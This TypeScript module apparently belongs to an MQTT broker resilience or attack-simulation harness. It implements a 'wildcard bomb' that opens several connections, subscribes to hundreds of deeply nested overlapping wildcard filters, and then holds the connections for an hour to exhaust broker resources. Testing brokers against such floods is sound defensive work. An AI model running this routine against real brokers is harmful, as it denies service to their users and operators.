// Wildcard bomb: very many overlapping filters.

import type { Attack } from '../attacker.js'
import { connectPacket, subscribePacket } from '../packets.js'
import { TOPIC_WORDS } from './words.js'

/** Subscribes to overlapping filters. */
export const wildcardBomb: Attack = {
  name: 'wildcard-bomb',
  summary:
    'wildcard bomb: 3 to 4 addresses, SUBSCRIBEs of 10 to 40 overlapping filters of up to 60 levels each, up to 400 filters an address, at QoS 0 to 2, over several connections',
  attackers: [3, 4],
  async run(attacker) {
    const { random } = attacker
    let filters = 0
    while (!attacker.over && filters < 400) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(socket, connectPacket({ clientId: random.text(14), keepalive: 0 }))
      for (let i = random.integer(1, 4); i > 0; i--) {
        const some = Array.from({ length: random.integer(10, 40) }, () => {
          const levels = Array.from(
            { length: random.chance(0.3) ? random.integer(20, 60) : random.integer(1, 6) },
            () => (random.chance(0.7) ? '+' : random.oneOf(TOPIC_WORDS))
          )
          return [...levels, '#'].join('/')
        })
        filters += some.length
        await attacker.send(socket, subscribePacket(some, random.oneOf([0, 1, 2]), random.integer(1, 65_535)))
        await attacker.pause(random.between(200, 800))
      }
      await attacker.pause(random.between(500, 2_000))
    }
    // Stay connected: the subscriptions keep delivering.
    await attacker.pause(3_600_000)
  }
}
